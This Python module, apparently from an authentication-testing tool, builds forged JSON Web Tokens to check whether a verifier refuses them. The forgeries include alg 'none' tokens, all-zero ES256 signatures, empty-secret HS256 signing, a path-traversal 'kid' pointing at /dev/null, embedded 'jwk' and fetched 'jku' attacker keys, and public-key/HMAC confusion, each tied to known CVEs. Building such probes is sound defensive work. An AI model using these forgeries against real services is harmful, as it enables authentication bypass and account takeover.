"""The forgeries of one token: each is right in all but one thing, and only the check for that can refuse it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

from cryptography.hazmat.primitives.asymmetric import rsa

from plimsoll.observations import Attempt
from plimsoll.probes.auth.tokens import (
    PrivateKey,
    PublicKey,
    Token,
    jwk,
    made,
    public_der,
    public_pem,
    strangers_key,
)

HOUR = 3600
NOBODY = "plimsoll-nobody"
"""An issuer, an audience and a key id that no deployment has."""

ZEROS = 64
"""Bytes of an ES256 signature; all zero, it verified for any text in some libraries (CVE-2022-21449)."""

BY_THE_RIGHT_KEY = ("algorithm", "key id", "issuer", "audience", "expiry", "not before", "critical header")
"""What only the holder of the signing key can leave out without spoiling the signature as well."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Forgery:
    """A token to send, and the attempt it is."""

    token: Token
    attempt: Attempt


@dataclass(frozen=True, slots=True, kw_only=True)
class Forger:
    """Somebody who has seen a genuine token. `now` is the time in seconds since 1970.

    `public` is the verifying key if it is published, `private` the signing key if the stack is ours, `lure` where a key
    of the forger's can be fetched, `own` that key.
    """

    genuine: Token
    now: float
    public: PublicKey | None = None
    private: PrivateKey | None = None
    lure: str = ""
    own: PrivateKey = field(default=b"", repr=False)

    def forgeries(self) -> Iterator[Forgery]:
        """Every forgery that can be made with what the forger holds."""
        yield from self._unsigned()
        yield from self._by_another()
        yield from self._confused()
        if self.private is not None:
            yield from self._by_the_right_key(self.private)

    @property
    def untried(self) -> dict[str, str]:
        """What cannot be tried, and why."""
        missing = {} if self.private else dict.fromkeys(BY_THE_RIGHT_KEY, "only the signing key can sign such a token")
        if self.public is None and self.genuine.algorithm.startswith(("RS", "PS", "ES")):
            missing["key confusion"] = "no public key is published"
        if "kid" not in self.genuine.header:
            missing.pop("key id", None)  # a token that names no key has no name to be wrong
        return missing

    def resigned(self) -> Token | None:
        """The genuine claims under a signature of our making: as good as the genuine token, if we hold the key."""
        return None if self.private is None else made(self.genuine.header, self.genuine.claims, self.private)

    def _unsigned(self) -> Iterator[Forgery]:
        header, claims = self.genuine.header, self.genuine.claims
        for name in ("none", "None", "nOnE"):  # CVE-2015-9235, and comparisons that mind the case
            yield _forgery(f"alg {name}", "signature", made({**header, "alg": name}, claims, None))
        yield _forgery("no signature", "signature", made(header, claims, None))
        # The claim of ours makes it another token also where the genuine one lives exactly as long.
        changed = made(header, {**claims, "exp": int(self.now) + 24 * HOUR, NOBODY: True}, None)
        yield _forgery("changed claims under the old signature", "signature", self._with_signature(changed))
        zeros = made({**header, "alg": "ES256"}, claims, None)
        yield _forgery("ES256 with a signature of zeros", "signature", _signed_with(zeros, bytes(ZEROS)))

    def _by_another(self) -> Iterator[Forgery]:
        header, claims, algorithm = self.genuine.header, self.genuine.claims, self.genuine.algorithm
        key = strangers_key(algorithm)
        signed = algorithm if algorithm[:2] in {"RS", "PS", "ES", "HS"} else "RS256"
        yield _forgery("signed with another key", "signature", made({**header, "alg": signed}, claims, key))
        nothing = {**header, "alg": "HS256"}
        yield _forgery("HS256 with an empty secret", "signature", made(nothing, claims, b""))
        device = {**nothing, "kid": "../../../../../../../dev/null"}
        yield _forgery("HS256 with the key file /dev/null", "signature", made(device, claims, b""))
        if isinstance(self.own, rsa.RSAPrivateKey):
            brought = {**header, "alg": "RS256", "jwk": jwk(self.own.public_key())}  # CVE-2018-0114
            yield _forgery("a key brought along (jwk)", "embedded key", made(brought, claims, self.own))
            if self.lure:
                led = {**header, "alg": "RS256", "kid": NOBODY, "jku": self.lure}
                yield _forgery("a key to be fetched (jku)", "embedded key", made(led, claims, self.own))

    def _confused(self) -> Iterator[Forgery]:
        """The published key as the secret of an HMAC (CVE-2016-10555)."""
        if self.public is None:
            return
        header, claims, pem = {**self.genuine.header, "alg": "HS256"}, self.genuine.claims, public_pem(self.public)
        secrets = {"PEM": pem, "PEM without its last newline": pem.rstrip(), "DER": public_der(self.public)}
        if isinstance(self.public, rsa.RSAPublicKey):
            secrets["modulus"] = jwk(self.public)["n"].encode()
        for form, secret in secrets.items():
            yield _forgery(f"HS256 with the public key ({form})", "key confusion", made(header, claims, secret))

    def _by_the_right_key(self, key: PrivateKey) -> Iterator[Forgery]:
        header, claims, now = self.genuine.header, self.genuine.claims, int(self.now)
        lacking = {name: {n: v for n, v in claims.items() if n != name} for name in ("iss", "aud", "exp")}
        others = ("RS384", "RS512", "PS256") if isinstance(key, rsa.RSAPrivateKey) else ()
        for algorithm in others:
            if algorithm != self.genuine.algorithm:
                token = made({**header, "alg": algorithm}, claims, key)
                yield _forgery(f"{algorithm} with the right key", "algorithm", token)
        if "kid" in header:
            yield _forgery("an unknown key id", "key id", made({**header, "kid": NOBODY}, claims, key))
        yield _forgery("another issuer", "issuer", made(header, {**claims, "iss": f"https://{NOBODY}.test"}, key))
        yield _forgery("no issuer", "issuer", made(header, lacking["iss"], key))
        yield _forgery("another audience", "audience", made(header, {**claims, "aud": NOBODY}, key))
        yield _forgery("no audience", "audience", made(header, lacking["aud"], key))
        past = {name: now - 2 * HOUR for name in ("iat", "nbf") if name in claims}
        yield _forgery("expired an hour ago", "expiry", made(header, {**claims, **past, "exp": now - HOUR}, key))
        yield _forgery("no expiry", "expiry", made(header, lacking["exp"], key))
        future = {**claims, "nbf": now + HOUR, "exp": now + 2 * HOUR}
        yield _forgery("valid in an hour", "not before", made(header, future, key))
        demanding = {**header, "crit": [NOBODY], NOBODY: True}  # RFC 7515, 4.1.11
        yield _forgery("an extension nobody knows (crit)", "critical header", made(demanding, claims, key))

    def _with_signature(self, token: Token) -> Token:
        return _signed_with(token, self.genuine.signature)


def _signed_with(token: Token, signature: bytes) -> Token:
    return Token(header=token.header, claims=token.claims, signed=token.signed, signature=signature)


def _forgery(name: str, lacks: str, token: Token) -> Forgery:
    return Forgery(token=token, attempt=Attempt(name=name, lacks=lacks, algorithm=token.algorithm))
